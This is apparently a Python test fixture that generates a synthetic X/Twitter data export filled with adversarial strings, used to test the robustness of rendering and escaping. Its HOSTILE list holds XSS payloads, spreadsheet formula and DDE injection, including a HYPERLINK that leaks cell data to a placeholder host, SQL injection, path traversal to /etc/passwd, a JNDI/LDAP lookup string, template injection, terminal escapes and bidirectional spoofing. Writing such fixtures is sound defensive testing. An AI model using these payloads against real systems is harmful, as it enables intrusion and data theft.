"""A sample with markup, formulas, escapes and half characters in every place where text can stand."""

from __future__ import annotations

import random
from dataclasses import replace
from datetime import timedelta

import x_export as x
import x_files
import x_posts
from people import registry
from x_export import Export, Person, Record, utc, with_viewer
from x_files import Said
from x_posts import Draft

HOSTILE = (
    "<script>alert('harbour')</script>",
    "</script><img src=x onerror=alert(1)>",
    "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "\x9b31m and \x08\x08\x7f",
    "costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fRTL",
    "family 👩‍👩‍👧‍👦 flag 🏴‍☠️ skin 👍🏽 keycap 1️⃣",
    "nul \x00 inside",
    "'; DROP TABLE posts; --",
    'quote " double "" single \' back ` slash \\',
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "CON.txt",
    "NaN",
    "NULL",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}",
    "line one\nline two\r\nline three\u2028line four",
    "zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ e\u0301 é",
    "\ufeffbom \ufffd \ufffe \u200b",
    "العربية עברית 日本語 ไทย हिन्दी",
    "[link](javascript:alert(1)) ![](https://example.org/x.png)",
    "javascript:alert(document.title)",
    "W" * 270,
    "",
    " ",
)


def hostile() -> Export:
    """About forty posts; the last one ends in half a surrogate pair."""
    rng = random.Random("hostile")
    me = Person(x.user_id(rng, utc("2019-09-09")), '<b>"mallory"</b>', HOSTILE[1])
    people = [
        Person(x.user_id(rng, utc("2015-03-03") + timedelta(days=90 * n)), f"name{n}", text)
        for n, text in enumerate(HOSTILE)
    ]
    export = Export(me, utc("2024-11-30T23:59:59.999"))
    rows: list[Record] = []
    for n, text in enumerate([*HOSTILE, *HOSTILE[:9], "half a character: \ud83d end"]):
        other, nasty = people[n % len(people)], HOSTILE[n % len(HOSTILE)]
        at = utc("2023-01-05T10:00:00") + timedelta(days=15 * n, seconds=n)
        draft = Draft(
            at, text, likes=n, source=f'<a href="https://example.org/{n}" rel="nofollow">{nasty}</a>'
        )
        if n % 4 == 1:
            parent = x.snowflake(rng, at - timedelta(minutes=9 + n))
            draft = replace(draft, text=f"@{other.handle} {text}", reply_to=other, parent=parent)
        if n % 7 == 2:
            draft = replace(draft, text=f"RT @{other.handle}: {text}")
        draft = replace(draft, text=draft.text + " #tag https://example.org/path")
        row = x_posts.tweet(rng, me, registry(people), draft)
        found = row["entities"]
        assert isinstance(found, dict)
        for kind, field, value in (
            ("hashtags", "text", nasty),
            (
                "urls",
                "expanded_url",
                ("javascript:alert(1)", f"https://example.org/{nasty}", f"https://example.com/?q={nasty}")[
                    n % 3
                ],
            ),
            ("urls", "display_url", nasty),
            ("user_mentions", "screen_name", nasty if n % 2 else other.handle),
        ):
            for item in found[kind]:
                item[field] = value
        if draft.reply_to and n % 8 == 1:
            row["in_reply_to_screen_name"] = nasty
        row["lang"] = nasty[:12] if n % 6 == 5 else "en"
        rows.append(row)
    posts = x_posts.shards(rng, rows, 1)
    export.add("tweets", posts)
    export.add("tweet-headers", x_posts.headers(me, posts))
    export.add("note-tweet", [x_posts.note(rng, utc("2023-01-05T10:00:00"), HOSTILE[0] + " long " * 60)])
    followers = [person.account_id for person in people]
    export.add("follower", x_files.people_list("follower", followers))
    export.add("following", x_files.people_list("following", followers[::2]))
    export.add(
        "like",
        [
            x_files.like(x.snowflake(rng, utc("2024-01-01") + timedelta(hours=n)), text)
            for n, text in enumerate(HOSTILE)
        ],
    )
    export.add("account", x_files.account(me, "2019-09-09T00:00:00.000Z", "mallory+<b>@example.org"))
    export.add(
        "profile",
        x_files.profile(
            me, "".join(HOSTILE[:9]), 'https://example.org/"><script>alert(1)</script>', "\u202e../.."
        ),
    )
    export.add("account-timezone", x_files.time_zone(me, "<i>Nowhere</i>/../Etc"))
    export.add("screen-name-change", x_files.renamed(me, "2021-04-01T00:00:00.000Z", "=1+1", me.handle))
    export.add(
        "lists-created",
        x_files.user_lists(
            f"https://twitter.com/name1/lists/{n}-{text}" for n, text in enumerate(HOSTILE[:6])
        ),
    )
    times = [utc("2024-02-01") + timedelta(days=n) for n in range(len(HOSTILE))]
    talks = [
        x_files.conversation(rng, me, person.account_id, [Said(at, person.account_id, text)])
        for person, at, text in zip(people, times, HOSTILE, strict=True)
    ]
    export.add("direct-messages", talks)
    export.empties(x.FILES_2023)
    export.manifest()
    return with_viewer(export)
